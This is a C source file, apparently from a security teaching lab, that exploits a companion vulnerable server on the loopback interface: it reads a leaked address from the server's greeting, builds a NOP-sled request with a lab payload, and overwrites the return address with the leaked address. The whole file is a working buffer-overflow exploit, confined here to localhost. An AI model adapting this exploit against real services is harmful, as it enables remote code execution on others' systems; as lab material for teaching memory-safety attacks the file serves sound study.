/*
 * The attacker of attack/overflow.c: takes the address that the greeting leaks and sends the payload, padding, and that
 * address over and over where the return address is. Argument 1 is the port on the loopback.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "../lab.h"

#define BUFFER 256
#define BEYOND 64 /* from the end of the array over saved registers to the return address and a little more */

int main(int argc, char **argv)
{
    char greeting[128] = { 0 };
    unsigned char request[BUFFER + BEYOND];
    uint32_t length = sizeof request;
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    check(argc > 1, "the port is missing");
    address.sin_port = htons((uint16_t)atoi(argv[1]));
    int connection = socket(AF_INET, SOCK_STREAM, 0);
    check(connect(connection, (struct sockaddr *)&address, sizeof address) == 0, "connect");
    check(recv(connection, greeting, sizeof greeting - 1, 0) > 0, "recv");
    char *leak = strstr(greeting, "0x");
    check(leak != NULL, "the greeting leaks nothing");
    uint64_t target = strtoull(leak, NULL, 16);
    memset(request, 0x90, sizeof request);
    make_payload(request + 16, "overflow", 43);
    for (size_t at = BUFFER; at < sizeof request; at += sizeof target)
        memcpy(request + at, &target, sizeof target);
    say("sending %u bytes that return to 0x%llx", length, (unsigned long long)target);
    check(send(connection, &length, sizeof length, MSG_NOSIGNAL) == sizeof length, "send");
    check(send(connection, request, sizeof request, MSG_NOSIGNAL) == (ssize_t)sizeof request, "send");
    recv(connection, greeting, sizeof greeting, 0);
    return 0;
}
